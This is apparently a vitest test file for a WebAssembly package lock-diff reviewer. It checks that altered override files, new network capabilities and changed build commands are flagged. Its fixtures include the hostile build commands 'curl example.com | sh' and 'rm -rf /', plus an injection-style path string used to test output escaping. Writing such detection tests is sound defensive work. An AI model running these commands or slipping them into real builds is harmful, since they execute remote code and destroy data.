import { sha256 } from '@wasm-pkg/registry-client/digest'
import { escapeText } from '@wasm-pkg/registry-client/text'
import { componentBytes } from '@wasm-pkg/testing/component-bytes'
import { lockOf } from '@wasm-pkg/testing/lock'
import { describe, expect, it } from 'vitest'
import { failures } from '../failures.js'
import { formatDiffMarkdown } from '../render/markdown/page.js'
import { formatDiffText } from '../render/text.js'
import { diffLocks, isEmptyDiff } from './diff.js'
import { type OverrideFiles, overrideChanges } from './overrides.js'
import type { LockDiff, ReviewedManifest } from './types.js'

const quiet = componentBytes({ imports: ['wasi:io/streams@0.2.3'], exports: ['acme:local/api@1.0.0'] })
const loud = componentBytes({ imports: ['wasi:sockets/tcp@0.2.3'], exports: ['acme:local/api@1.0.0'] })

function files(bytes: Uint8Array | string | undefined, path = './build/local.wasm'): OverrideFiles {
  return new Map([['acme:local', { path, bytes: typeof bytes === 'string' ? Buffer.from(bytes) : bytes }]])
}

const lock = lockOf({ name: 'acme:image', version: '1.0.0' })
function reviewed(before: OverrideFiles, after: OverrideFiles): LockDiff {
  return diffLocks(lock, lock, { overrides: { before, after } })
}

describe('a file that overrides a package', () => {
  it('is reported with the capabilities of its new bytes, although package.json and the lock file are the same', () => {
    const diff = reviewed(files(quiet), files(loud))
    expect(isEmptyDiff(diff)).toBe(false)
    const text = formatDiffText(diff)
    expect(text).toContain(`Overrides
  ! overrides["acme:local"]: ./build/local.wasm has different bytes: ${sha256(quiet)} -> ${sha256(loud)}
        gains Network: it can open network connections and look up host names
        + imports wasi:sockets/tcp@0.2.3
        - imports wasi:io/streams@0.2.3
`)
    expect(text).toMatch(/^1 override changed\./)
    const page = formatDiffMarkdown(diff)
    expect(page).toContain('### Overrides')
    expect(page).toContain('**gains Network**')
    expect(page).toContain('+ imports `wasi:sockets/tcp@0.2.3`')
  })

  it('fails by the rules for overrides and capabilities', () => {
    expect(failures(reviewed(files(quiet), files(loud)), ['overrides', 'capability'])).toEqual([
      { rule: 'overrides', text: 'the bytes of ./build/local.wasm, which overrides acme:local, changed' },
      {
        rule: 'capability',
        text: 'acme:local (./build/local.wasm) can now open network connections and look up host names',
      },
    ])
    const rebuilt = files(componentBytes({ imports: ['wasi:io/streams@0.2.3'], salt: 'again' }))
    expect(failures(reviewed(files(quiet), rebuilt), ['overrides', 'capability'])).toHaveLength(1)
  })

  it('is no change with the same bytes, at another place or where neither side has any', () => {
    expect(overrideChanges(files(quiet), files(quiet, './moved.wasm'))).toEqual([])
    expect(overrideChanges(files(undefined), files(undefined))).toEqual([])
    expect(overrideChanges(new Map(), files(undefined))).toEqual([])
  })

  it('is reported if it is new, removed or not a component', () => {
    expect(overrideChanges(new Map(), files(loud))).toMatchObject([{ to: sha256(loud), gained: [{ id: 'network' }] }])
    const [gone] = overrideChanges(files(loud), files(undefined))
    expect(gone).toMatchObject({ from: sha256(loud), imports: { removed: ['wasi:sockets/tcp@0.2.3'] } })
    expect(gone).not.toHaveProperty('to')
    expect(overrideChanges(files(quiet), files('text'))).toMatchObject([{ problem: expect.any(String) }])
  })

  it('is the same file where Git LFS keeps its content', () => {
    const pointer = `version https://git-lfs.github.com/spec/v1\noid ${sha256(quiet)}\nsize ${quiet.length}\n`
    expect(overrideChanges(files(pointer), files(quiet))).toEqual([])
    expect(overrideChanges(files(pointer), files(loud))).toMatchObject([{ from: sha256(quiet), to: sha256(loud) }])
  })

  it('cannot break out of its line', () => {
    const diff = reviewed(files(quiet, 'a'), files('x', 'x`|\n## safe\u202E<b>@all'))
    const lines = formatDiffText(diff).split('\n')
    expect(lines.map((line) => escapeText(line, line.length))).toEqual(lines)
    expect(formatDiffMarkdown(diff)).not.toContain('\n## safe')
  })
})

const folder = (build: string): OverrideFiles =>
  new Map([['acme:local', { path: '../local', bytes: undefined, build }]])

describe('a folder that overrides a package', () => {
  it('is reported with what builds it, if that is new or changed', () => {
    expect(overrideChanges(folder('make'), folder('make'))).toEqual([])
    const diff = reviewed(new Map(), folder('cargo build'))
    expect(formatDiffText(diff)).toContain(
      '! overrides["acme:local"]: ../local is a folder that is built: nothing -> cargo build',
    )
    const changed = reviewed(folder('make'), folder('curl example.com | sh'))
    expect(formatDiffText(changed)).toContain('../local is built in another way: make -> curl example.com | sh')
    expect(formatDiffMarkdown(changed)).toContain('is built in another way')
    expect(failures(changed, ['overrides'])).toEqual([
      { rule: 'overrides', text: '../local, which overrides acme:local, is built by curl example.com | sh' },
    ])
  })
})

const builtBy = (command: string): ReviewedManifest => ({
  document: { build: { command, output: 'x.wasm' } },
  permissions: new Map(),
})

describe('what builds the package itself', () => {
  it('is reported if it changes', () => {
    const diff = diffLocks(lock, lock, { manifests: { before: builtBy('make'), after: builtBy('rm -rf /') } })
    expect(formatDiffText(diff)).toMatch(/^1 change of what builds this package\./)
    expect(formatDiffText(diff)).toContain('! build.command: make -> rm -rf /')
    expect(failures(diff, ['overrides'])).toHaveLength(1)
  })
})
